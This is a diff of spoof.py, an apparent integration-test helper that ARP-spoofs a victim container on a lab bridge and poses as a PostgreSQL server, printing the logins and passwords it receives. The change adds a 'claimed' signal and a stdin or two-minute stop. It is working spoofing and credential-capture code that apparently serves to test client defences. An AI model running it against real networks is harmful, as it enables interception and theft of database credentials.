@@ -1,18 +1,20 @@
 """A neighbour on the lab's bridge that claims another container's address, from root's network in its own container.
 
-`spoof.py ADDRESS VICTIM VICTIM_MAC TLS SECONDS` gives the victim the container's own MAC address for ADDRESS, and
-answers its connections as an impostor of PostgreSQL. TLS is `none`, or the file of a certificate. It prints the
-received logins and passwords as JSON.
+`spoof.py ADDRESS VICTIM VICTIM_MAC TLS` gives the victim the container's own MAC address for ADDRESS, and answers its
+connections as an impostor of PostgreSQL. TLS is `none`, or the file of a certificate. It prints a line once it claims
+the address. It ends with its standard input, or after two minutes, and prints the received logins and passwords as
+JSON.
 """
 
 from __future__ import annotations
 
+import itertools
 import json
+import select
 import socket
 import subprocess
 import sys
 import threading
-import time
 from contextlib import suppress
 from ipaddress import IPv4Address
 from pathlib import Path
@@ -20,6 +22,7 @@ from pathlib import Path
 from tests.integration.impostor import impostor
 
 DEVICE = "eth0"
+_LONGEST = 120  # seconds
 _ARP, _REPLY = 0x0806, b"\0\1\x08\0\6\4\0\2"
 _RULES = """table ip spoof {{
   chain prerouting {{
@@ -36,20 +39,24 @@ def mac(text: str) -> bytes:
 
 
 def claim(address: str, victim: str, victim_mac: str, over: threading.Event) -> None:
-    """Tell the victim ten times a second that this container has the address."""
+    """Tell the victim ten times a second that this container has the address; print a line after the first time."""
     with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
         raw.bind((DEVICE, _ARP))
         own = raw.getsockname()[4]
         frame = mac(victim_mac) + own + _ARP.to_bytes(2) + _REPLY
         frame += own + IPv4Address(address).packed + mac(victim_mac) + IPv4Address(victim).packed
-        while not over.wait(0.1):
+        for count in itertools.count():
             with suppress(OSError):  # the node's filter drops it
                 raw.send(frame)
+            if not count:
+                print("claimed", flush=True)
+            if over.wait(0.1):
+                return
 
 
 def main() -> None:
-    """Spoof for the given time; see the module's docstring."""
-    address, victim, victim_mac, tls, seconds = sys.argv[1:]
+    """Spoof until the end of the standard input; see the module's docstring."""
+    address, victim, victim_mac, tls = sys.argv[1:]
     certificate = None if tls == "none" else Path(tls).read_text()
     over = threading.Event()
     with impostor(certificate, "0.0.0.0") as running:  # noqa: S104 - in the container's network
@@ -58,7 +65,7 @@ def main() -> None:
         claiming = threading.Thread(target=claim, args=(address, victim, victim_mac, over))
         claiming.start()
         try:
-            time.sleep(float(seconds))
+            select.select([sys.stdin], [], [], _LONGEST)
         finally:
             over.set()
             claiming.join()
